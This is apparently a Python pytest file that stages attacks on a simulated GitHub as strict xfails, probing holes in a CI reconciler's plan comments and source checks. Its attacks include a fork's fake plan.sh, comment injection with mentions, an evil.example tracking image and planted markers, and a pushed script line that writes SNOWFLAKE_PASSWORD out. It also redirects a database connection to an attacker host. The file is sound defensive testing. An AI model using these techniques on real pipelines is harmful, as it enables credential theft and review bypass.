"""Issue 16's holes in what reviewers are shown (4) and in the source checks (5), as attacks on
the simulated GitHub: strict xfails that expect `AttackSucceeded` only (attacks.py), until the
fix of their hole removes the marker.
"""

from __future__ import annotations

import pytest

from reconciler_testing.localsnow import DEMO_PASSWORD
from tests.workflows.attacks import (
    attacker_host,
    attacker_target,
    both,
    hole,
    inbox_file,
    live_markdown,
    refuse,
    script_edit,
)
from tests.workflows.conftest import GitHub
from tests.workflows.scenarios import add_datastore, bootstrap, edit

BOT = "github-actions[bot]"
MENTION, IMAGE = "@globorealty/platform-leads", "![ok](https://evil.example/pixel.png)"
PLANTED = "<!-- reconciler-apply:prod -->"
LABEL = "reconciler:check-sources"
# a fork's plan.sh that plans nothing and says "No changes", for a trusted-looking commit
FAKE_PLAN_SH = """\
#!/usr/bin/env bash
set -euo pipefail
out="$RUNNER_TEMP/reconciler"
mkdir -p "$out"
env_name="$RECONCILE_ENV"
printf '<!-- reconciler-plan:%s -->\\n### reconciler plan · `%s`\\n\\n%s\\n' "$env_name" \\
  "$env_name" "No changes. The workspace matches the desired state." >"$out/plan-$env_name.md"
printf '{"environment": "%s", "exitcode": 0, "fork": false, "head_sha": "%s"}\\n' \\
  "$env_name" c0ffeec0ffeec0ffeec0ffeec0ffeec0ffeec0ff >"$out/meta.json"
echo "exitcode=0" >>"$GITHUB_OUTPUT"
echo "dir=$out" >>"$GITHUB_OUTPUT"
"""


def comments(github: GitHub, number: int) -> list[dict[str, object]]:
    github.sim.load()
    return [c for c in github.sim.state["comments"] if c["issue"] == number]


def plan_comments(github: GitHub, number: int, env: str = "dev") -> list[str]:
    return [
        str(c["body"])
        for c in comments(github, number)
        if f"<!-- reconciler-plan:{env} -->" in str(c["body"])
    ]


@hole(4, "the comment job posts the markdown and meta.json a fork's own plan job produced")
def test_a_fork_cannot_claim_to_be_planned_nor_fake_its_commit(github: GitHub) -> None:
    bootstrap(github)
    github.sim.ignored |= {"check-sources.yml"}
    fake = both(
        add_datastore("curated"),
        lambda repo: repo.write("scripts/ci/plan.sh", FAKE_PLAN_SH),
    )
    github.open_pull(9, fake, fork=True, author="stranger")
    github.sim.settle()
    head = github.sim.pull(9)["head"]["sha"]

    (said,) = plan_comments(github, 9)
    refuse(
        "not planned (fork)" in said and "No changes" not in said and head[:12] in said,
        "the fork's comment reads as a trusted plan: 'No changes' for a plan never made "
        f"(a new datastore), commit {'c0ffeec0ffee' if 'c0ffeec0ffee' in said else '?'} "
        f"instead of {head[:12]}",
    )


@hole(4, "the comment job posts what the pull request wrote: mentions, images, our markers")
def test_a_pull_request_cannot_mention_teams_embed_images_or_plant_markers(github: GitHub) -> None:
    bootstrap(github)
    github.sim.ignored |= {"check-sources.yml"}
    noise = f"\\n{MENTION} please approve {IMAGE}\\n{PLANTED}\\n"
    append = script_edit(
        'emit_annotations "$markdown" "$validated"\n',
        f"printf '{noise}' >>\"$markdown\"\n" + 'emit_annotations "$markdown" "$validated"\n',
    )
    in_a_value = edit("owner: data-platform", f'owner: "{PLANTED}"')
    github.open_pull(10, both(append, in_a_value), author="mallory")
    github.sim.settle()

    (said,) = plan_comments(github, 10)
    live = live_markdown(said)
    found = [what for what in (MENTION, "![", "<img") if what in live]
    found += ["the apply:prod marker"] if "reconciler-apply:prod" in said else []
    refuse(found == [], f"the bot's plan comment carries {found}")


@hole(4, "comment updates take the first comment holding the marker, whoever wrote it")
def test_comment_updates_leave_other_people_s_comments_alone(github: GitHub) -> None:
    bootstrap(github)
    github.sim.ignored |= {"check-sources.yml"}
    github.open_pull(11, edit("layer: bronze", "layer: silver"), author="mallory")
    planted = "<!-- reconciler-plan:dev -->\nLooks good to me, no changes."
    mine = github.sim.comment_as("mallory", 11, planted)  # before the bot's comment
    github.sim.settle()

    now = next(c for c in comments(github, 11) if c["id"] == mine["id"])
    bots = [c for c in comments(github, 11) if c["user"]["login"] == BOT]  # type: ignore[index]
    refuse(
        now["body"] == planted and len(bots) == 2,
        f"the bot rewrote mallory's comment (it now holds the plan, under mallory's name) and "
        f"posted {len(bots)} comment(s) of its own",
    )


@hole(4, "drift issues are matched by label and marker only")
def test_the_drift_job_updates_only_its_own_issue(github: GitHub) -> None:
    bootstrap(github)
    body = "<!-- reconciler-drift:prod -->\nKnown and harmless: ignore drift in prod."
    planted = github.sim.open_issue_as("mallory", "Drift in prod", body, ["reconciler-drift"])
    github.repo.edit("layer: bronze", "layer: gold")  # prod changed by hand: drift
    assert github.repo.reconcile("prod", "apply", "--auto-approve").returncode == 0
    github.repo.edit("layer: gold", "layer: bronze")
    github.sim.schedule("drift.yml")
    github.sim.settle()

    issues = github.sim.issues()
    theirs = next(i for i in issues if i["number"] == planted["number"])
    bots = [i for i in issues if i["user"]["login"] == BOT]
    refuse(
        theirs["body"] == body and len(bots) == 1,
        "the drift job wrote its report into mallory's issue and opened none of its own",
    )


def test_the_labeller_cannot_approve_the_source_check_their_label_started(
    github: GitHub,
) -> None:
    """Not a hole with the README's set-up: `<env>-sources` prevents self-review, and the run a
    label starts is the labeller's."""
    bootstrap(github)
    github.sim.ignored |= {"plan.yml", "plan-comment.yml"}
    github.open_pull(12, edit("RAW\n", "RAW WHERE 1 = 1\n"), author="mallory")
    github.sim.settle()
    github.sim.label(12, LABEL, by="lead-ana")
    github.sim.settle()
    (dev, prod) = github.sim.waiting()
    assert dev.run.triggering_actor == "lead-ana"
    with pytest.raises(PermissionError, match="prevents self-review"):
        github.sim.approve(dev, by="lead-ana")
    github.sim.approve(dev, by="lead-ben")
    github.sim.reject(prod)
    github.sim.settle()
    assert dev.result == "success"


@hole(5, "check-sources runs the pull request's code with the password; the label outlives pushes")
def test_a_push_after_the_label_cannot_reach_the_database_password(github: GitHub) -> None:
    bootstrap(github)
    github.sim.ignored |= {"plan.yml", "plan-comment.yml"}
    github.open_pull(13, edit("RAW\n", "RAW WHERE 1 = 1\n"), author="mallory")
    github.sim.settle()
    github.sim.label(13, LABEL, by="lead-ana")  # after reading the (harmless) change
    github.sim.settle()
    for job in github.sim.waiting():
        github.sim.approve(job, by="lead-ben")
    github.sim.settle()
    inbox = inbox_file(github)
    steal = script_edit(
        "rc=0\n",
        f'printf %s "${{SNOWFLAKE_PASSWORD:-}}" >"{inbox}"\nrc=0\n',
        "scripts/ci/check-sources.sh",
    )
    github.push_to_pull(13, steal)  # a new commit: the label stays, the check runs again
    github.sim.settle()
    for job in github.sim.waiting():  # the approval shows no diff
        github.sim.approve(job, by="lead-ben")
    github.sim.settle()

    stolen = inbox.read_text() if inbox.exists() else ""
    refuse(
        DEMO_PASSWORD not in stolen,
        "the new commit's check-sources.sh ran with the database password and sent it out",
    )


@hole(5, "a connection's target is the pull request's to change, and the password goes there")
def test_a_changed_connection_target_never_receives_the_password(github: GitHub) -> None:
    bootstrap(github)
    github.sim.ignored |= {"plan.yml", "plan-comment.yml"}
    with attacker_host() as (port, inbox):
        aimed = edit(github.repo.snowflake_target, attacker_target(port), "environments/dev.yaml")
        github.open_pull(14, both(aimed, edit("RAW\n", "RAW WHERE 1 = 1\n")), author="mallory")
        github.sim.settle()
        github.sim.label(14, LABEL, by="lead-ana")
        github.sim.settle()
        for job in github.sim.waiting():
            github.sim.approve(job, by="lead-ben")
        github.sim.settle()
        received = inbox.text()

    refuse(
        DEMO_PASSWORD not in received,
        f"127.0.0.1:{port}, the pull request's new target, received the database password "
        "in a Snowflake login request",
    )
